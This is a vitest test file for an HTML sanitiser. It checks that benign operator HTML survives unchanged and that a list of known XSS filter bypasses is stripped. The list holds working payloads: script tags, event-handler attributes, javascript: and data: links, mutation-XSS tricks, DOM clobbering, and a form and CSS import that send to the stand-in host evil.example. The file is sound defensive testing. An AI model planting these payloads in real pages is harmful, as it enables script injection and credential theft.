import { describe, expect, it } from 'vitest'
import { safeHtml, safePage } from './safe-html.ts'

describe('what an operator wrote', () => {
  it.each([
    '<h2>Rules</h2><p>Pick <b>three</b>.<br /><a href="/p/faq">Questions</a></p>',
    '<ul><li>One</li></ul><table><tbody><tr><td>1</td></tr></tbody></table>',
    '<img src="/client/pictures/1/sign.svg" alt="Our sign" />',
    '<a href="mailto:help@north.example">Write</a> <a href="https://north.example/a?b=1">Read</a>',
    '5 &lt; 6 &amp; 7',
  ])('stays as it is: %s', html => expect(safeHtml(html)).toBe(html))

  it('has its first heading only on a page by itself', () => {
    expect(safePage('<h1>About</h1>')).toBe('<h1>About</h1>')
    expect(safeHtml('<h1>About</h1>')).toBe('About')
  })
})

/** Each has been somebody's way through a filter. */
const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/client/pictures/1/../../api/1/logout">',
  '<img src="//evil.example/a.svg">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object><embed src="x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="vbscript:msgbox(1)" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<form action="https://evil.example"><input name="password"><button formaction="x">Log in</button></form>',
  '<div style="background:url(https://evil.example/a)" class="modal" id="page" data-x="1">x</div>',
  '<base href="https://evil.example/"><link rel="stylesheet" href="x"><meta http-equiv="refresh" content="0;url=x">',
  '<style>@import "https://evil.example"; body{display:none}</style>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio autoplay src=x>',
  '<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<p><!--[if IE]><script>alert(1)</script><![endif]--></p>',
  '<a name="getElementById"></a><a id="bootstrap">{}</a>',
  '<xss id=x tabindex=1 onactivate=alert(1)></xss>',
  '"><img src=x onerror=alert(1)>//',
]

describe('nothing is left that could run, load, send or cover anything', () => {
  it.each(hostile)('%s', html => {
    for (const safe of [safeHtml(html), safePage(html)]) {
      expect(safe).not.toMatch(
        /<(?!\/?(a|b|br|code|div|em|h[1-4]|hr|i|img|li|ol|p|small|span|strong|sub|sup|t(able|body|d|h|head|r)|u|ul|blockquote)[\s/>])/i,
      )
      expect(safe).not.toMatch(/<[^>]*\s(on\w+|style|class|id|name|srcdoc|data-\w+)\s*=/i)
      expect(safe).not.toMatch(/(href|src)="(?!https?:|mailto:|\/(?!\/)|#)/i)
      expect(safe).not.toMatch(/<img(?! src="\/client\/pictures\/\d+\/[a-z0-9-]+\.svg")/i)
      expect(safe).not.toContain('alert(1)</')
      expect(safeHtml(safeHtml(html))).toBe(safeHtml(html))
    }
  })
})
